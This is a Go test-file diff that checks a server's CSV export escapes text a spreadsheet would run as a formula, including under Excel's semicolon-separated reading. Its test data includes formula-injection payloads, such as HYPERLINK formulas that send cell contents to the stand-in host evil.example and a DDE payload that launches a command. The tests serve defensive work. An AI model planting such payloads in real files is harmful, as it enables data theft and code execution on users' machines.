@@ -159,8 +159,8 @@ func (s *testServer) checkExport(t *testing.T, path string) int {
 				if cell != fmt.Sprint(v) {
 					t.Fatalf("%s: row %d %s = %q, want %v", path, i+1, col, cell, v)
 				}
-			default: // an object or array: its JSON
-				if got := decodeJSON(t, []byte(cell)); !reflect.DeepEqual(got, v) {
+			default: // an object or array: its JSON (csvText's ' after a ; taken out)
+				if got := decodeJSON(t, []byte(strings.ReplaceAll(cell, ";'", ";"))); !reflect.DeepEqual(got, v) {
 					t.Fatalf("%s: row %d %s = %q, want %v", path, i+1, col, cell, v)
 				}
 			}
@@ -748,6 +748,15 @@ func TestExportCSVRecord(t *testing.T) {
 	if !reflect.DeepEqual(record, want) {
 		t.Fatalf("record %q, want %q", record, want)
 	}
+	// An object's or array's JSON text gets the guard after a ; in it; a
+	// number never gets one.
+	b, _ = json.Marshal(item{N: -1, Obj: json.RawMessage(`{"u":"x;=1+1","v":"a;b"}`), Arr: []any{";@x", "-1"}})
+	if err := cols.split(b, record); err != nil {
+		t.Fatal(err)
+	}
+	if want := []string{`{"u":"x;'=1+1","v":"a;b"}`, `[";'@x","-1"]`}; record[2] != "-1" || record[5] != want[0] || record[6] != want[1] {
+		t.Fatalf("cells %q, %q and %q, want -1, %q", record[2], record[5], record[6], want)
+	}
 
 	// A text a spreadsheet would read as a formula gets a ' before it,
 	// escaped or not in the JSON; a number does not.
@@ -761,8 +770,22 @@ func TestExportCSVRecord(t *testing.T) {
 		{"-x\n", 0, []string{"'-x\n", "0"}},
 		{"@SUM(1,2)", 0, []string{"'@SUM(1,2)", "0"}},
 		{"\t=1", 0, []string{"'\t=1", "0"}},
-		{"\r=1", 0, []string{"'\r=1", "0"}},
+		{"\r=1", 0, []string{"'\r'=1", "0"}},
 		{"a=1", 0, []string{"a=1", "0"}},
+		// A spreadsheet that splits at ; (Excel in a locale whose list
+		// separator it is) or, its quotes undone, at a line break, starts
+		// a cell at each part: each part is guarded, past spaces and quotes.
+		{`x;=HYPERLINK("http://evil.example/?"&A1)`, 0, []string{`x;'=HYPERLINK("http://evil.example/?"&A1)`, "0"}},
+		{"a;b;+1;c", 0, []string{"a;b;'+1;c", "0"}},
+		{`x; "=1`, 0, []string{`x;' "=1`, "0"}},
+		{`x;"@SUM(1,2)"`, 0, []string{`x;'"@SUM(1,2)"`, "0"}},
+		{" =1", 0, []string{"' =1", "0"}},
+		{`"=1"`, 0, []string{`'"=1"`, "0"}},
+		{"=1;-2", 0, []string{"'=1;'-2", "0"}},
+		{"line\n=1+1", 0, []string{"line\n'=1+1", "0"}},
+		{"line\r\n-1", 0, []string{"line\r\n'-1", "0"}},
+		{"a;b\nc; d=1;", 0, []string{"a;b\nc; d=1;", "0"}},
+		{"a;;\t", 0, []string{"a;;'\t", "0"}},
 	} {
 		b, _ := json.Marshal(item{S: c.s, N: c.n})
 		record := make([]string, len(cols.names))
@@ -777,22 +800,29 @@ func TestExportCSVRecord(t *testing.T) {
 
 // In a CSV export, stored text that a spreadsheet would run as a formula
 // is neutralised with a ' (the generic path, here flows, and the hand-
-// written measurement rows alike); NDJSON keeps it exactly.
+// written measurement rows alike); NDJSON keeps it exactly. Read as RFC
+// 4180 says (a spreadsheet whose separator is the comma), no cell starts
+// a formula; read as Excel reads it where the list separator is ; (every
+// line split at each ;, quotes only meaning something at a field's start,
+// so line breaks in quoted cells end rows too), no field does either.
 func TestExportCSVNeutralisesFormulas(t *testing.T) {
 	t.Parallel()
 	s := newTestServer(t)
-	payloads := []string{`=HYPERLINK("http://evil.example/?x="&A1,"click")`, "+1+1", "-2+3", "@SUM(1,2)", "\t=1", "=cmd|' /C calc'!A0"}
+	payloads := []string{`=HYPERLINK("http://evil.example/?x="&A1,"click")`, "+1+1", "-2+3", "@SUM(1,2)", "\t=1", "=cmd|' /C calc'!A0",
+		`x;=HYPERLINK("http://evil.example/?x="&A1,"click")`, `ok;"@SUM(1,2)"`, "two\nlines\n-1", "a; +1"}
 	var flows []string
 	for _, p := range payloads {
 		b, _ := json.Marshal(p)
-		flows = append(flows, fmt.Sprintf(`{"src_app":%s,"dest_app":"d","vpc_id":"v","bytes_tx":1,"bytes_rx":2,"hour":5}`, b))
+		flows = append(flows, fmt.Sprintf(`{"src_app":"s","dest_app":%s,"vpc_id":"v","bytes_tx":1,"bytes_rx":2,"hour":5}`, b))
 	}
 	s.do("POST", "/flows", "["+strings.Join(flows, ",")+"]").wantStatus(t, http.StatusCreated)
-	name, _ := json.Marshal(payloads[0])
-	s.do("POST", "/api/measurements", fmt.Sprintf(`[{"name":%s,"method":"GET","startedAt":%d,"endedAt":%d}]`, name, day0, day0+1)).
+	// A name with a ; takes the hand-written rows; so do the JSON texts.
+	s.do("POST", "/api/measurements", fmt.Sprintf(`[{"name":%q,"method":"GET","startedAt":%d,"endedAt":%d,
+		"context":{"note":"x;=HYPERLINK(1)","plain":"a;b"}}]`, "/a;=1+1", day0, day0+1)).
 		wantStatus(t, http.StatusCreated)
 	for _, path := range []string{"/flows?hour=5", fmt.Sprintf("/api/measurements/?startedAt=%d&endedAt=%d", day0-1, day0+2)} {
-		records, err := csv.NewReader(bytes.NewReader(s.export(t, path, "text/csv"))).ReadAll()
+		raw := s.export(t, path, "text/csv")
+		records, err := csv.NewReader(bytes.NewReader(raw)).ReadAll()
 		if err != nil {
 			t.Fatal(err)
 		}
@@ -802,13 +832,20 @@ func TestExportCSVNeutralisesFormulas(t *testing.T) {
 				if cell != "" && formulaStart[cell[0]] {
 					t.Errorf("%s: cell %q starts a formula", path, cell)
 				}
-				if strings.HasPrefix(cell, "'") {
-					n++
-				}
+				n += strings.Count(cell, "'=") + strings.Count(cell, "'+") + strings.Count(cell, "'-") +
+					strings.Count(cell, "'@") + strings.Count(cell, "'\t") + strings.Count(cell, "' +") +
+					strings.Count(cell, `'"@`)
 			}
 		}
-		if want := map[bool]int{true: len(payloads), false: 1}[strings.HasPrefix(path, "/flows")]; n != want {
-			t.Errorf("%s: %d neutralised cells, want %d: %q", path, n, want, records)
+		// The ;-separated reading of the same bytes.
+		for _, field := range strings.FieldsFunc(string(raw), func(r rune) bool { return r == ';' || r == '\n' || r == '\r' }) {
+			if f := strings.TrimLeft(field, ` "`); f != "" && formulaStart[f[0]] {
+				t.Errorf("%s: split at ; and line breaks, the field %q starts a formula", path, field)
+			}
+		}
+		// Each payload once; the measurement's name and its context's note.
+		if want := map[bool]int{true: len(payloads), false: 2}[strings.HasPrefix(path, "/flows")]; n != want {
+			t.Errorf("%s: %d neutralised parts, want %d: %q", path, n, want, records)
 		}
 		if nd := s.export(t, path, "application/x-ndjson"); !bytes.Contains(nd, []byte(`"@SUM(1,2)"`)) && strings.HasPrefix(path, "/flows") {
 			t.Errorf("%s: NDJSON does not keep the text exactly: %s", path, nd)
